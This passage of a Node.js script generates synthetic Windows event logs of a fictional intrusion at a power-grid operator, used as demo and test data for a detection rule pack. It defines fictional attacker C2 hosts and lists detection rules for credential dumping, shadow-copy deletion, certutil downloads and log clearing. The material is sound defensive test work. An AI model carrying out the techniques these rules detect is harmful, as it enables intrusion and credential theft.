#!/usr/bin/env node
// Writes the demo logs in data/demo/ — a made-up intrusion at a regional power-grid operator, hidden in
// a morning of ordinary activity — and the table of detections the built-in rule pack should raise on
// them in data/demo/README.md.
//
// The events are in the JSON shape Debian's / the Rust crate's `evtx_dump` writes (one object per line).
// Everything is deterministic: "random" values come from a fixed-seed generator, so running this again
// gives byte-identical files.
//
//   node scripts/make-demo-data.js              write data/demo/*.jsonl and the README table
//   node scripts/make-demo-data.js --expected   write nothing; print the expected detections as JSON
//                                               (for end-to-end tests: rule file, log file and line, record id)
//
// Plain Node, no dependencies. All hosts, accounts, domains (*.example) and addresses (private ranges and
// the documentation ranges 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) are fictional.

import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const REPO = path.join(path.dirname(fileURLToPath(import.meta.url)), '..');
const DEMO = path.join(REPO, 'data', 'demo');
const DAY = '2026-11-20';

// ---------------------------------------------------------------------------------------------------
// Deterministic randomness (mulberry32).

let seed = 0x20261120;
function random() {
  seed = (seed + 0x6d2b79f5) | 0;
  let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
const int = (min, max) => min + Math.floor(random() * (max - min + 1));
const pick = (list) => list[Math.floor(random() * list.length)];
const hexDigits = (count) => Array.from({ length: count }, () => '0123456789ABCDEF'[int(0, 15)]).join('');
const guid = () => `${hexDigits(8)}-${hexDigits(4)}-4${hexDigits(3)}-${pick(['8', '9', 'A', 'B'])}${hexDigits(3)}-${hexDigits(12)}`;
const hash = (algorithm, text) => createHash(algorithm).update(text).digest('hex').toUpperCase();

// ---------------------------------------------------------------------------------------------------
// Time: events carry a microsecond SystemTime; Sysmon's UtcTime has milliseconds.

/** 'HH:MM:SS.mmm' → the times an event needs; microseconds are made up from the generator. */
function at(clock) {
  const [hms, ms = '000'] = clock.split('.');
  const micro = `${ms.padEnd(3, '0')}${String(int(0, 999)).padStart(3, '0')}`;
  return { system: `${DAY}T${hms}.${micro}Z`, utc: `${DAY} ${hms}.${ms.padEnd(3, '0')}`, sort: `${hms}.${micro}` };
}

/** A random moment between two clock times, for background activity. */
function between(from, to) {
  const seconds = (clock) => clock.split(':').reduce((sum, part) => sum * 60 + Number(part), 0);
  const s = int(seconds(from), seconds(to));
  const pad = (n) => String(n).padStart(2, '0');
  return at(`${pad(Math.floor(s / 3600))}:${pad(Math.floor(s / 60) % 60)}:${pad(s % 60)}.${String(int(0, 999)).padStart(3, '0')}`);
}

// ---------------------------------------------------------------------------------------------------
// The organisation.

const DOMAIN_SID = 'S-1-5-21-3141592653-589793238-462643383';
const HMI_LOCAL_SID = 'S-1-5-21-2718281828-459045235-360287471';

const USERS = {
  system: { name: 'SYSTEM', domain: 'NT AUTHORITY', sid: 'S-1-5-18', logonId: '0x3e7' },
  localService: { name: 'LOCAL SERVICE', domain: 'NT AUTHORITY', sid: 'S-1-5-19', logonId: '0x3e5' },
  networkService: { name: 'NETWORK SERVICE', domain: 'NT AUTHORITY', sid: 'S-1-5-20', logonId: '0x3e4' },
  keller: { name: 'j.keller', domain: 'GRID', sid: `${DOMAIN_SID}-1107`, logonId: '0x5a3f21' },
  kellerAdmin: { name: 'adm.jkeller', domain: 'GRID', sid: `${DOMAIN_SID}-1151`, logonId: '0x9c41e7' },
  otto: { name: 'm.otto', domain: 'GRID', sid: `${DOMAIN_SID}-1123`, logonId: '0x4b2c90' },
  shift: { name: 'ops.shift2', domain: 'GRID', sid: `${DOMAIN_SID}-1134`, logonId: '0x2f1e08' },
  schmidt: { name: 'o.schmidt', domain: 'GRID', sid: `${DOMAIN_SID}-1142`, logonId: '0x61d2a4' },
  backup: { name: 'svc_backup', domain: 'GRID', sid: `${DOMAIN_SID}-1201`, logonId: '0x3a9d11' },
  historian: { name: 'svc_hist', domain: 'GRID', sid: `${DOMAIN_SID}-1204`, logonId: '0x1d4c02' },
};
const account = (user) => `${user.domain}\\${user.name}`;

// `sysmon`: the Sysmon service's process id on hosts that run Sysmon; `lsass`: the process that writes
// the Security log. ProcessGuid prefixes differ per host as they do in real Sysmon logs.
const HOSTS = {
  eng: { name: 'ENG-WS-07.grid.example', short: 'ENG-WS-07', ip: '10.10.20.57', sysmon: 2964, lsass: 712, guidPrefix: '6A1D20C7', records: { sysmon: 184211, security: 902331, powershell: 5521 } },
  hmi: { name: 'SCADA-HMI-01.grid.example', short: 'SCADA-HMI-01', ip: '10.30.1.21', sysmon: 2140, lsass: 688, guidPrefix: '3F08B2E1', records: { sysmon: 77102, security: 418870, powershell: 1240 } },
  ops: { name: 'OPS-WS-12.grid.example', short: 'OPS-WS-12', ip: '10.10.20.112', sysmon: 3312, lsass: 700, guidPrefix: '51C7E94A', records: { sysmon: 231905, security: 655410, powershell: 3302 } },
  hist: { name: 'HIST-SRV-02.grid.example', short: 'HIST-SRV-02', ip: '10.30.2.15', sysmon: 2488, lsass: 676, guidPrefix: '0D93F6B5', records: { sysmon: 96340, security: 287114, powershell: 812 } },
  dc: { name: 'DC01.grid.example', short: 'DC01', ip: '10.10.1.10', sysmon: 0, lsass: 652, guidPrefix: '', records: { sysmon: 0, security: 3310452, powershell: 20914 } },
};

// Attacker infrastructure (documentation address ranges).
const C2_HOST = 'cdn.gridupdate-portal.example';
const C2_IP = '198.51.100.23';
const TEMPLATE_HOST = 'templates.gridsupport-portal.example';
const TEMPLATE_IP = '203.0.113.45';

// ---------------------------------------------------------------------------------------------------
// The rules the pack holds, by the short names used below.

const RULES = {
  officeShell: 'windows/process_creation/proc_creation_win_office_spawns_shell.yml',
  encodedPowerShell: 'windows/process_creation/proc_creation_win_powershell_hidden_encoded_command.yml',
  certutil: 'windows/process_creation/proc_creation_win_certutil_download.yml',
  shadowCopies: 'windows/process_creation/proc_creation_win_shadow_copy_deletion.yml',
  comsvcs: 'windows/process_creation/proc_creation_win_rundll32_comsvcs_minidump.yml',
  icsRecon: 'windows/process_creation/proc_creation_win_ics_protocol_scan_keywords.yml',
  userCreated: 'windows/builtin/security/win_security_local_user_created.yml',
  privilegedGroup: 'windows/builtin/security/win_security_member_added_privileged_group.yml',
  logCleared: 'windows/builtin/security/win_security_audit_log_cleared.yml',
  unknownUser: 'windows/builtin/security/win_security_failed_logon_unknown_user.yml',
  officePublicIp: 'windows/network_connection/net_connection_win_office_public_ip.yml',
  runKey: 'windows/registry/registry_set/registry_set_run_key_suspicious_command.yml',
  credentialTools: 'windows/powershell/powershell_script/posh_ps_credential_theft_tools.yml',
  base64Download: 'windows/powershell/powershell_script/posh_ps_base64_hidden_download.yml',
};

// ---------------------------------------------------------------------------------------------------
// Event shapes.

const FILES = { sysmon: [], security: [], powershell: [] };

/**
 * Adds an event. `expect` names the rules that should fire on it and `story` says what it is; both are
 * kept beside the event for the README and expected-detections.json, never written into the log.
 */
function emit(file, host, channelKey, time, event, { expect = [], story = '' } = {}) {
  FILES[file].push({ host, channelKey, time, event, expect, story });
}

function systemPart({ provider, providerGuid, eventId, version, level, task, opcode = 0, keywords, time, host, channel, pid, userSid, activityId }) {
  return {
    Provider: { '#attributes': { Name: provider, Guid: providerGuid } },
    EventID: eventId,
    Version: version,
    Level: level,
    Task: task,
    Opcode: opcode,
    Keywords: keywords,
    TimeCreated: { '#attributes': { SystemTime: time.system } },
    EventRecordID: null, // numbered per host and log once the file is in time order
    Correlation: activityId ? { '#attributes': { ActivityID: activityId } } : null,
    Execution: { '#attributes': { ProcessID: pid, ThreadID: int(300, 9800) } },
    Channel: channel,
    Computer: host.name,
    Security: userSid ? { '#attributes': { UserID: userSid } } : null,
  };
}

const wrap = (system, body) => ({ Event: { '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' }, System: system, ...body } });

// Sysmon ------------------------------------------------------------------------------------------

const SYSMON = { provider: 'Microsoft-Windows-Sysmon', providerGuid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9', channel: 'Microsoft-Windows-Sysmon/Operational' };
const SYSMON_VERSION = { 1: 5, 3: 5, 13: 2, 22: 5 };

function sysmon(host, eventId, time, data, meta) {
  const system = systemPart({ ...SYSMON, eventId, version: SYSMON_VERSION[eventId], level: 4, task: eventId, keywords: '0x8000000000000000', time, host, pid: host.sysmon, userSid: 'S-1-5-18' });
  emit('sysmon', host, 'sysmon', time, wrap(system, { EventData: { RuleName: '-', ...data } }), meta);
}

/** Version resources of the programs in the story, as Sysmon reports them. */
const PE = {
  'powershell.exe': ['10.0.19041.3996 (WinBuild.160101.0800)', 'Windows PowerShell', 'PowerShell.EXE'],
  'certutil.exe': ['10.0.19041.4355 (WinBuild.160101.0800)', 'CertUtil.exe', 'CertUtil.exe'],
  'rundll32.exe': ['10.0.19041.3636 (WinBuild.160101.0800)', 'Windows host process (Rundll32)', 'RUNDLL32.EXE'],
  'cmd.exe': ['10.0.19041.4355 (WinBuild.160101.0800)', 'Windows Command Processor', 'Cmd.Exe'],
  'reg.exe': ['10.0.19041.1 (WinBuild.160101.0800)', 'Registry Console Tool', 'reg.exe'],
  'net.exe': ['10.0.19041.1 (WinBuild.160101.0800)', 'Net Command', 'net.exe'],
  'net1.exe': ['10.0.19041.1 (WinBuild.160101.0800)', 'Net Command', 'net1.exe'],
  'vssadmin.exe': ['10.0.19041.1 (WinBuild.160101.0800)', 'Command Line Interface for Microsoft® Volume Shadow Copy Service ', 'VSSADMIN.EXE'],
  'wmic.exe': ['10.0.19041.3636 (WinBuild.160101.0800)', 'WMI Commandline Utility', 'wmic.exe'],
  'wevtutil.exe': ['10.0.19041.1 (WinBuild.160101.0800)', 'Eventing Command Line Utility', 'wevtutil.exe'],
  'svchost.exe': ['10.0.19041.4355 (WinBuild.160101.0800)', 'Host Process for Windows Services', 'svchost.exe'],
  'taskhostw.exe': ['10.0.19041.3996 (WinBuild.160101.0800)', 'Host Process for Windows Tasks', 'taskhostw.exe'],
  'conhost.exe': ['10.0.19041.4355 (WinBuild.160101.0800)', 'Console Window Host', 'CONHOST.EXE'],
  'backgroundtaskhost.exe': ['10.0.19041.3636 (WinBuild.160101.0800)', 'Background Task Host', 'backgroundTaskHost.exe'],
  'searchprotocolhost.exe': ['7.0.19041.3996 (WinBuild.160101.0800)', 'Microsoft Windows Search Protocol Host', 'SearchProtocolHost.exe'],
  'notepad.exe': ['10.0.19041.3996 (WinBuild.160101.0800)', 'Notepad', 'NOTEPAD.EXE'],
  'gpupdate.exe': ['10.0.19041.1 (WinBuild.160101.0800)', 'Microsoft® Windows Group Policy Update Utility', 'GPUpdate.exe'],
  'rdpclip.exe': ['10.0.19041.3996 (WinBuild.160101.0800)', 'RDP Clipboard Monitor', 'rdpclip.exe'],
  'mpcmdrun.exe': ['4.18.24090.11 (WinBuild.160101.0800)', 'Microsoft Malware Protection Command Line Utility', 'MpCmdRun.exe'],
  'winword.exe': ['16.0.17928.20156', 'Microsoft Word', 'WinWord.exe', 'Microsoft Office', 'Microsoft Corporation'],
  'excel.exe': ['16.0.17928.20156', 'Microsoft Excel', 'Excel.exe', 'Microsoft Office', 'Microsoft Corporation'],
  'outlook.exe': ['16.0.17928.20156', 'Microsoft Outlook', 'Outlook.exe', 'Microsoft Office', 'Microsoft Corporation'],
  'chrome.exe': ['131.0.6778.86', 'Google Chrome', 'chrome.exe', 'Google Chrome', 'Google LLC'],
  'ms-teams.exe': ['24295.605.3225.8804', 'Microsoft Teams', 'ms-teams.exe', 'Microsoft Teams', 'Microsoft Corporation'],
  'onedrive.exe': ['24.211.1020.0002', 'Microsoft OneDrive', 'OneDrive.exe', 'Microsoft OneDrive', 'Microsoft Corporation'],
  'python.exe': ['3.12.7', 'Python', 'python.exe', 'Python', 'Python Software Foundation'],
  'nmap.exe': ['7.95', 'Nmap', 'nmap.exe', 'Nmap', 'Nmap Software LLC'],
  'gvhmi.exe': ['8.4.2.117', 'GridView HMI Runtime', 'gvhmi.exe', 'GridView HMI', 'Example Automation Ltd.'],
  'gvtrend.exe': ['8.4.2.117', 'GridView Trend Viewer', 'gvtrend.exe', 'GridView HMI', 'Example Automation Ltd.'],
  'pstudio.exe': ['5.2.0.31', 'Protection Studio', 'pstudio.exe', 'Protection Studio', 'Example Relay Systems'],
  'hxcollect.exe': ['3.9.1.4', 'Historian Collector', 'hxcollect.exe', 'Example Historian', 'Example Automation Ltd.'],
  'bkagent.exe': ['12.1.0.88', 'Backup Agent', 'bkagent.exe', 'Example Backup', 'Example Backup Software'],
  'splwow64.exe': ['10.0.19041.3996 (WinBuild.160101.0800)', 'Print driver host for applications', 'splwow64.exe'],
  'agentexecutor.exe': ['1.83.107.0', 'AgentExecutor', 'AgentExecutor.exe', 'Microsoft Intune Management Extension', 'Microsoft Corporation'],
};

const basename = (image) => image.slice(image.lastIndexOf('\\') + 1);

/** A process that already runs when the story starts (no creation event of its own). */
function running(host, image, commandLine, user, pid) {
  return { host, image, commandLine, user, pid, guid: processGuid(host) };
}

function processGuid(host) {
  return `${host.guidPrefix || '00000000'}-${hexDigits(4)}-${hexDigits(4)}-${hexDigits(4)}-00000000${hexDigits(4)}`;
}

/** Starts a process: a Sysmon EventID 1 on hosts with Sysmon, and the process for its children. */
function start(parent, image, commandLine, time, { user = parent.user, integrity = 'Medium', cwd = 'C:\\Windows\\system32\\', meta } = {}) {
  const host = parent.host;
  const child = { host, image, commandLine, user, pid: int(1200, 14800), guid: processGuid(host) };
  const [fileVersion, description, originalFileName, product = 'Microsoft® Windows® Operating System', company = 'Microsoft Corporation'] = PE[basename(image).toLowerCase()] ?? ['?', '?', '?', '?', '?'];
  sysmon(
    host,
    1,
    time,
    {
      UtcTime: time.utc,
      ProcessGuid: child.guid,
      ProcessId: child.pid,
      Image: image,
      FileVersion: fileVersion,
      Description: description,
      Product: product,
      Company: company,
      OriginalFileName: originalFileName,
      CommandLine: commandLine,
      CurrentDirectory: cwd,
      User: account(user),
      LogonGuid: `${host.guidPrefix}-0000-0000-0000-${user.logonId.slice(2).toUpperCase().padStart(8, '0')}0000`,
      LogonId: user.logonId,
      TerminalSessionId: user.sid.startsWith('S-1-5-1') || user.sid.startsWith('S-1-5-20') ? 0 : 1,
      IntegrityLevel: user.sid === 'S-1-5-18' ? 'System' : integrity,
      Hashes: `MD5=${hash('md5', image)},SHA256=${hash('sha256', image)},IMPHASH=${hash('md5', `imphash:${basename(image).toLowerCase()}`)}`,
      ParentProcessGuid: parent.guid,
      ParentProcessId: parent.pid,
      ParentImage: parent.image,
      ParentCommandLine: parent.commandLine,
      ParentUser: account(parent.user),
    },
    meta,
  );
  return child;
}

function connect(process, time, { ip, port, hostname = '-', protocol = 'tcp', meta }) {
  const host = process.host;
  const ipv6 = ip.includes(':');
  sysmon(
    host,
    3,
    time,
    {
      UtcTime: time.utc,
      ProcessGuid: process.guid,
      ProcessId: process.pid,
      Image: process.image,
      User: account(process.user),
      Protocol: protocol,
      Initiated: true,
      SourceIsIpv6: ipv6,
      SourceIp: ipv6 ? 'fe80:0:0:0:5d1:2c3a:9e0f:1b27' : host.ip,
      SourceHostname: host.name,
      SourcePort: int(49152, 65000),
      SourcePortName: '-',
      DestinationIsIpv6: ipv6,
      DestinationIp: ip,
      DestinationHostname: hostname,
      DestinationPort: port,
      DestinationPortName: { 53: 'domain', 80: 'http', 88: 'kerberos', 389: 'ldap', 443: 'https', 445: 'microsoft-ds', 3389: 'ms-wbt-server' }[port] ?? '-',
    },
    meta,
  );
}

function dnsQuery(process, time, name, answer, meta) {
  sysmon(
    process.host,
    22,
    time,
    { UtcTime: time.utc, ProcessGuid: process.guid, ProcessId: process.pid, QueryName: name, QueryStatus: '0', QueryResults: answer, Image: process.image, User: account(process.user) },
    meta,
  );
}

function setRegistry(process, time, targetObject, details, meta) {
  const system = systemPart({ ...SYSMON, eventId: 13, version: 2, level: 4, task: 13, keywords: '0x8000000000000000', time, host: process.host, pid: process.host.sysmon, userSid: 'S-1-5-18' });
  emit(
    'sysmon',
    process.host,
    'sysmon',
    time,
    wrap(system, {
      EventData: { RuleName: '-', EventType: 'SetValue', UtcTime: time.utc, ProcessGuid: process.guid, ProcessId: process.pid, Image: process.image, TargetObject: targetObject, Details: details, User: account(process.user) },
    }),
    meta,
  );
}

// Security log ---------------------------------------------------------------------------------------

const AUDITING = { provider: 'Microsoft-Windows-Security-Auditing', providerGuid: '54849625-5478-4994-A5BA-3E3B0328C30D', channel: 'Security' };
/** EventID → [version, task]. */
const SECURITY_SHAPE = { 4624: [2, 12544], 4625: [0, 12544], 4634: [0, 12545], 4672: [0, 12548], 4688: [2, 13312], 4720: [0, 13824], 4732: [0, 13826], 4768: [0, 14339], 4769: [0, 14337] };

function security(host, eventId, time, data, meta) {
  const [version, task] = SECURITY_SHAPE[eventId];
  const keywords = eventId === 4625 ? '0x8010000000000000' : '0x8020000000000000';
  const system = systemPart({ ...AUDITING, eventId, version, level: 0, task, keywords, time, host, pid: host.lsass, activityId: guid() });
  emit('security', host, 'security', time, wrap(system, { EventData: data }), meta);
}

/** A 4720 (user account created) event's data: a new local account with Windows' default settings. */
function accountCreated(account, domain, sid, creator) {
  return {
    TargetUserName: account,
    TargetDomainName: domain,
    TargetSid: sid,
    ...subject(creator),
    PrivilegeList: '-',
    SamAccountName: account,
    DisplayName: '%%1793',
    UserPrincipalName: '-',
    HomeDirectory: '%%1793',
    HomePath: '%%1793',
    ScriptPath: '%%1793',
    ProfilePath: '%%1793',
    UserWorkstations: '%%1793',
    PasswordLastSet: '%%1794',
    AccountExpires: '%%1794',
    PrimaryGroupId: '513',
    AllowedToDelegateTo: '-',
    OldUacValue: '0x0',
    NewUacValue: '0x15',
    UserAccountControl: '\n\t\t%%2080\n\t\t%%2082\n\t\t%%2084',
    UserParameters: '%%1793',
    SidHistory: '-',
    LogonHours: '%%1797',
  };
}

const subject = (user) => ({ SubjectUserSid: user.sid, SubjectUserName: user.name, SubjectDomainName: user.domain, SubjectLogonId: user.logonId });
const NO_SUBJECT = { SubjectUserSid: 'S-1-0-0', SubjectUserName: '-', SubjectDomainName: '-', SubjectLogonId: '0x0' };

function logon(host, time, user, { type, from = '-', workstation = '-', logonId = `0x${hexDigits(6).toLowerCase()}`, auth = type === 3 ? 'Kerberos' : 'Negotiate', elevated = false, meta } = {}) {
  const network = type === 3;
  security(
    host,
    4624,
    time,
    {
      ...(network ? NO_SUBJECT : { SubjectUserSid: 'S-1-5-18', SubjectUserName: `${host.short}$`, SubjectDomainName: 'GRID', SubjectLogonId: '0x3e7' }),
      TargetUserSid: user.sid,
      TargetUserName: user.name,
      TargetDomainName: user.domain,
      TargetLogonId: logonId,
      LogonType: type,
      LogonProcessName: type === 3 ? (auth === 'Kerberos' ? 'Kerberos' : 'NtLmSsp ') : type === 5 ? 'Advapi  ' : 'User32 ',
      AuthenticationPackageName: auth,
      WorkstationName: workstation,
      LogonGuid: auth === 'Kerberos' ? guid() : '00000000-0000-0000-0000-000000000000',
      TransmittedServices: '-',
      LmPackageName: auth === 'NTLM' ? 'NTLM V2' : '-',
      KeyLength: auth === 'NTLM' ? 128 : 0,
      ProcessId: network ? '0x0' : `0x${int(400, 900).toString(16)}`,
      ProcessName: network ? '-' : 'C:\\Windows\\System32\\svchost.exe',
      IpAddress: from,
      IpPort: from === '-' ? '-' : String(int(49152, 65000)),
      ImpersonationLevel: '%%1833',
      RestrictedAdminMode: type === 10 ? '%%1843' : '-',
      TargetOutboundUserName: '-',
      TargetOutboundDomainName: '-',
      VirtualAccount: '%%1843',
      TargetLinkedLogonId: '0x0',
      ElevatedToken: elevated ? '%%1842' : '%%1843',
    },
    meta,
  );
  return logonId;
}

function logoff(host, time, user, logonId, type) {
  security(host, 4634, time, { TargetUserSid: user.sid, TargetUserName: user.name, TargetDomainName: user.domain, TargetLogonId: logonId, LogonType: type });
}

function specialPrivileges(host, time, user, logonId, meta) {
  security(
    host,
    4672,
    time,
    {
      ...subject({ ...user, logonId }),
      PrivilegeList: 'SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeTakeOwnershipPrivilege\n\t\t\tSeDebugPrivilege\n\t\t\tSeSystemEnvironmentPrivilege\n\t\t\tSeLoadDriverPrivilege\n\t\t\tSeImpersonatePrivilege\n\t\t\tSeDelegateSessionUserImpersonatePrivilege',
    },
    meta,
  );
}

function failedLogon(host, time, targetName, subStatus, { from, workstation, meta }) {
  security(
    host,
    4625,
    time,
    {
      ...NO_SUBJECT,
      TargetUserSid: 'S-1-0-0',
      TargetUserName: targetName,
      TargetDomainName: 'GRID',
      Status: '0xc000006d',
      FailureReason: '%%2313',
      SubStatus: subStatus,
      LogonType: 3,
      LogonProcessName: 'NtLmSsp ',
      AuthenticationPackageName: 'NTLM',
      WorkstationName: workstation,
      TransmittedServices: '-',
      LmPackageName: '-',
      KeyLength: 0,
      ProcessId: '0x0',
      ProcessName: '-',
      IpAddress: from,
      IpPort: String(int(49152, 65000)),
    },
    meta,
  );
}

/** Security 4688, for DC01 (no Sysmon there; process auditing with command lines is on). */
function processAudit(host, time, user, image, commandLine, parentImage) {
  // The SYSTEM account appears under the computer's own account name in the Security log.
  const creator = user.sid === 'S-1-5-18' ? { ...user, name: `${host.short}$`, domain: 'GRID' } : user;
  security(host, 4688, time, {
    ...subject(creator),
    NewProcessId: `0x${int(0x400, 0x3a00).toString(16)}`,
    NewProcessName: image,
    TokenElevationType: user.sid === 'S-1-5-18' ? '%%1936' : '%%1937',
    ProcessId: `0x${int(0x300, 0x2000).toString(16)}`,
    CommandLine: commandLine,
    TargetUserSid: 'S-1-0-0',
    TargetUserName: '-',
    TargetDomainName: '-',
    TargetLogonId: '0x0',
    ParentProcessName: parentImage,
    MandatoryLabel: user.sid === 'S-1-5-18' ? 'S-1-16-16384' : 'S-1-16-12288',
  });
}

function kerberosTgt(time, user, from) {
  security(HOSTS.dc, 4768, time, {
    TargetUserName: user.name,
    TargetDomainName: 'GRID.EXAMPLE',
    TargetSid: user.sid,
    ServiceName: 'krbtgt',
    ServiceSid: `${DOMAIN_SID}-502`,
    TicketOptions: '0x40810010',
    Status: '0x0',
    TicketEncryptionType: '0x12',
    PreAuthType: '2',
    IpAddress: `::ffff:${from}`,
    IpPort: String(int(49152, 65000)),
    CertIssuerName: '',
    CertSerialNumber: '',
    CertThumbprint: '',
  });
}

function kerberosService(time, user, service, from) {
  security(HOSTS.dc, 4769, time, {
    TargetUserName: `${user.name}@GRID.EXAMPLE`,
    TargetDomainName: 'GRID.EXAMPLE',
    ServiceName: service,
    ServiceSid: `${DOMAIN_SID}-${int(1300, 1400)}`,
    TicketOptions: '0x40810000',
    TicketEncryptionType: '0x12',
    IpAddress: `::ffff:${from}`,
    IpPort: String(int(49152, 65000)),
    Status: '0x0',
    LogonGuid: guid(),
    TransmittedServices: '-',
  });
}

/** 1102 comes from the Eventlog service, not from Security-Auditing, and carries its data in UserData. */
function auditLogCleared(host, time, user, meta) {
  const system = systemPart({
    provider: 'Microsoft-Windows-Eventlog',
    providerGuid: 'FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148',
    eventId: 1102,
    version: 0,
    level: 4,
    task: 104,
    keywords: '0x4020000000000000',
    time,
    host,
    channel: 'Security',
    pid: 1364,
  });
  const body = { UserData: { LogFileCleared: { '#attributes': { xmlns: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog' }, ...subject(user) } } };
  emit('security', host, 'security', time, wrap(system, body), meta);
}

// PowerShell script block logging ----------------------------------------------------------------------

const POWERSHELL = { provider: 'Microsoft-Windows-PowerShell', providerGuid: 'A0C1853B-5C40-4B15-8766-3CF1C58F985A', channel: 'Microsoft-Windows-PowerShell/Operational' };

/** EventID 4104. PowerShell logs blocks it finds suspicious as warnings (level 3) even without policy. */
function scriptBlock(process, time, text, { path = '', warning = false, meta } = {}) {
  const system = systemPart({ ...POWERSHELL, eventId: 4104, version: 1, level: warning ? 3 : 5, task: 2, opcode: 15, keywords: '0x0', time, host: process.host, pid: process.pid, userSid: process.user.sid, activityId: guid() });
  emit('powershell', process.host, 'powershell', time, wrap(system, { EventData: { MessageNumber: 1, MessageTotal: 1, ScriptBlockText: text, ScriptBlockId: guid().toLowerCase(), Path: path } }), meta);
}

// ---------------------------------------------------------------------------------------------------
// Programs.

const W = 'C:\\Windows\\System32\\';
const IMG = {
  explorer: 'C:\\Windows\\explorer.exe',
  services: `${W}services.exe`,
  svchost: `${W}svchost.exe`,
  cmd: `${W}cmd.exe`,
  powershell: `${W}WindowsPowerShell\\v1.0\\powershell.exe`,
  certutil: `${W}certutil.exe`,
  rundll32: `${W}rundll32.exe`,
  reg: `${W}reg.exe`,
  net: `${W}net.exe`,
  net1: `${W}net1.exe`,
  vssadmin: `${W}vssadmin.exe`,
  wmic: `${W}wbem\\WMIC.exe`,
  wevtutil: `${W}wevtutil.exe`,
  conhost: `${W}conhost.exe`,
  taskhostw: `${W}taskhostw.exe`,
  backgroundTaskHost: `${W}backgroundTaskHost.exe`,
  searchProtocolHost: `${W}SearchProtocolHost.exe`,
  notepad: `${W}notepad.exe`,
  gpupdate: `${W}gpupdate.exe`,
  rdpclip: `${W}rdpclip.exe`,
  mpcmdrun: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe',
  winword: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  excel: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
  outlook: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
  chrome: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  teams: 'C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe',
  onedrive: 'C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe',
  python: 'C:\\Program Files\\Python312\\python.exe',
  pstudio: 'C:\\Program Files\\Example Relay Systems\\Protection Studio\\pstudio.exe',
  gvhmi: 'C:\\Program Files\\GridView\\gvhmi.exe',
  gvtrend: 'C:\\Program Files\\GridView\\gvtrend.exe',
  hxcollect: 'C:\\Program Files\\Example Historian\\hxcollect.exe',
  bkagent: 'C:\\Program Files\\Example Backup\\bkagent.exe',
  intune: 'C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe',
};

// ---------------------------------------------------------------------------------------------------
// The morning's ordinary activity.

const PROCS = {};
for (const key of ['eng', 'hmi', 'ops', 'hist']) {
  const host = HOSTS[key];
  PROCS[key] = {
    services: running(host, IMG.services, `${W}services.exe`, USERS.system, 684 + int(0, 40)),
    svchostNet: running(host, IMG.svchost, `${W}svchost.exe -k netsvcs -p`, USERS.system, int(900, 1500)),
    svchostDns: running(host, IMG.svchost, `${W}svchost.exe -k NetworkService -p -s Dnscache`, USERS.networkService, int(900, 1500)),
    defender: running(host, 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe', '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"', USERS.system, int(3000, 4000)),
  };
}
const desktopUser = { eng: USERS.keller, ops: USERS.otto, hmi: USERS.shift, hist: USERS.historian };
for (const key of ['eng', 'ops', 'hmi']) PROCS[key].explorer = running(HOSTS[key], IMG.explorer, 'C:\\Windows\\Explorer.EXE', desktopUser[key], int(5000, 7000));
PROCS.hist.backup = running(HOSTS.hist, IMG.bkagent, '"C:\\Program Files\\Example Backup\\bkagent.exe" --service', USERS.backup, 2876);
PROCS.hist.collector = running(HOSTS.hist, IMG.hxcollect, '"C:\\Program Files\\Example Historian\\hxcollect.exe" -config "C:\\ProgramData\\Example Historian\\collect.xml"', USERS.historian, 3140);
PROCS.hmi.runtime = running(HOSTS.hmi, IMG.gvhmi, '"C:\\Program Files\\GridView\\gvhmi.exe" /project "D:\\Projects\\Substations-North.gvp"', USERS.shift, 4412);

function backgroundProcesses(key, count) {
  const p = PROCS[key];
  const templates = [
    () => [p.services, IMG.svchost, `${W}svchost.exe -k netsvcs -p -s Schedule`, USERS.system],
    () => [p.services, IMG.svchost, `${W}svchost.exe -k LocalService -p -s EventSystem`, USERS.localService],
    () => [p.svchostNet, IMG.taskhostw, 'taskhostw.exe', desktopUser[key]],
    () => [p.svchostNet, IMG.backgroundTaskHost, `"${W}backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider`, desktopUser[key]],
    () => [p.svchostNet, IMG.searchProtocolHost, `"${W}SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe_S-1-5-21-${int(1000, 9999)}_ Global\\UsGthrCtrlFltPipeMssGthrPipe_S-1-5-21-${int(1000, 9999)} 1 -2147483646 "Software\\Microsoft\\Windows Search"`, USERS.system],
    () => [p.svchostNet, IMG.mpcmdrun, `"${IMG.mpcmdrun}" -wdenable`, USERS.system],
    () => [p.services, IMG.rundll32, `"${W}rundll32.exe" ${W}PcaSvc.dll,PcaPatchSdbTask`, USERS.system],
  ];
  for (let i = 0; i < count; i++) {
    const [parent, image, commandLine, user] = pick(templates)();
    start(parent, image, commandLine, between('07:30:00', '11:55:00'), { user });
  }
}

function backgroundDns(key, count) {
  const p = PROCS[key];
  const names = [
    ['dc01.grid.example', '10.10.1.10;'],
    ['fs01.grid.example', '10.10.2.15;'],
    ['wpad.grid.example', '-'],
    ['time.windows.com', 'type:  5 twc.trafficmanager.net;::ffff:192.0.2.123;'],
    ['settings-win.data.microsoft.com', 'type:  5 settings-prod.trafficmanager.net;::ffff:192.0.2.47;'],
